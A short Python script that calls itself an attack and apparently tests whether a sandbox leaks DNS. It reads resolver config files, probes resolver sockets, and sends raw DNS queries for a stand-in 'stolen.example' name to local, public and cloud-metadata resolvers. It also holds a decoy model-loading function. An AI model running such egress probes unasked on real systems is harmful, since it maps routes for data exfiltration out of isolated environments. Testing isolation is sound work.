# Tries: to ask for names: the resolver's file, its sockets, questions of its own to servers near and far.
import socket
from pathlib import Path


def attempt(words, action):
    try:
        print("OBTAINED", words, action())
    except (OSError, AttributeError, ValueError) as error:
        print("refused", words, error)


def ask(server, question):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(0.5)
        one.sendto(question, (server, 53))
        return one.recv(512)


def main():
    for path in ("/etc/resolv.conf", "/etc/hosts", "/etc/nsswitch.conf", "/run/systemd/resolve/stub-resolv.conf"):
        attempt(path, lambda path=path: Path(path).read_text()[:200])
    for path in ("/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket", "/run/nscd/socket"):
        attempt(path, lambda path=path: socket.socket(socket.AF_UNIX).connect(path))
    for name in ("example.com", "localhost", "stolen.example.org"):
        attempt(name, lambda name=name: socket.getaddrinfo(name, 80))
    question = b"\0\1\1\0\0\1\0\0\0\0\0\0\6stolen\7example\0\0\1\0\1"
    for server in ("127.0.0.1", "127.0.0.11", "127.0.0.53", "8.8.8.8", "1.1.1.1", "169.254.169.253"):
        attempt(server, lambda server=server: ask(server, question))


def load_model(checkpoint, device):
    raise SystemExit("there is no model: this script only attacks")


if __name__ == "__main__":
    main()
    raise SystemExit("the attack is over")
